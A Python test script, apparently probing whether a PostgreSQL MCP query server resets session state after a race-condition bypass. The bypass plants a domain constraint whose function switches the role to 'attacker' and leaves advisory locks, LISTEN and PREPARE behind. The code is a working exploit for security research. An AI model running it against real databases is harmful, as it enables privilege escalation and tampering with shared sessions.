"""What the domain bypass can leave on the server's pooled session: a session advisory lock,
LISTEN, an SQL PREPARE, role and a session GUC; then whether the next call finds any of it.
Usage: reset_after_bypass.py [reader|postgres]"""
import asyncio
import json
import sys

import asyncpg
import race_domain as rd
from common import DSN, as_role, tool
from mcpclient import connect

LEAVE = r"""
CREATE OR REPLACE FUNCTION atk.dom_leave(int) RETURNS boolean VOLATILE LANGUAGE plpgsql AS $f$
BEGIN
  PERFORM pg_catalog.pg_advisory_lock(4242);
  BEGIN EXECUTE 'LISTEN atkchan'; EXCEPTION WHEN OTHERS THEN RAISE NOTICE 'listen: %', SQLERRM; END;
  BEGIN EXECUTE 'PREPARE atkp AS SELECT 1'; EXCEPTION WHEN OTHERS THEN RAISE NOTICE 'prepare: %', SQLERRM; END;
  PERFORM pg_catalog.set_config('role', 'attacker', false);
  PERFORM pg_catalog.setseed(0.42);
  RETURN true;
END $f$;
GRANT EXECUTE ON FUNCTION atk.dom_leave(int) TO PUBLIC;
GRANT attacker TO reader;
"""

async def main(role: str) -> None:
    adm = await asyncpg.connect(DSN)
    a = await asyncpg.connect(as_role("attacker")); await a.execute(rd.SETUP_ATK)
    await adm.execute(LEAVE.replace("GRANT attacker TO reader;", "")); await adm.execute("ALTER FUNCTION atk.dom_leave(int) OWNER TO attacker")
    b = await asyncpg.connect(as_role("attacker"))
    async with connect(DSN if role == "postgres" else as_role(role), pool_size=1) if False else connect(DSN if role == "postgres" else as_role(role)) as c:
        ok, body = await tool(c, "execute_query", sql="SELECT * FROM atk.v")
        await a.execute("BEGIN; REINDEX INDEX atk.t_a")
        call = asyncio.create_task(tool(c, "execute_query", sql="SELECT * FROM atk.v2"))
        waiter = None
        while not waiter:
            waiter = await b.fetchval("SELECT pid FROM pg_locks WHERE relation = 'atk.t_a'::regclass AND NOT granted")
            await asyncio.sleep(0.01)
        await b.execute("ALTER DOMAIN atk.dom ADD CONSTRAINT planted CHECK (atk.dom_leave(VALUE))")
        await a.execute("COMMIT")
        ok, body = await call
        print("bypass call:", ok, json.dumps(body.get("rows", body))[:200])
        await b.execute("ALTER DOMAIN atk.dom DROP CONSTRAINT planted")
        await asyncio.sleep(0.5)
        print("server backend", waiter, "alive:", await adm.fetchval("SELECT count(*) FROM pg_stat_activity WHERE pid=$1", waiter),
              "advisory locks held:", await adm.fetchval("SELECT count(*) FROM pg_locks WHERE locktype='advisory' AND pid=$1", waiter))
        for sql in ["SELECT current_user AS u, session_user AS s, pg_backend_pid() AS pid",
                    "SELECT name FROM pg_prepared_statements WHERE NOT from_sql IS FALSE",
                    "SELECT pg_listening_channels() AS ch"]:
            ok, body = await tool(c, "execute_query", sql=sql)
            print(sql, "->", ok, json.dumps(body.get("rows", body.get("error")))[:200])
    for x in (a, b, adm): await x.close()

if __name__ == "__main__":
    asyncio.run(main(sys.argv[1] if len(sys.argv) > 1 else "reader"))
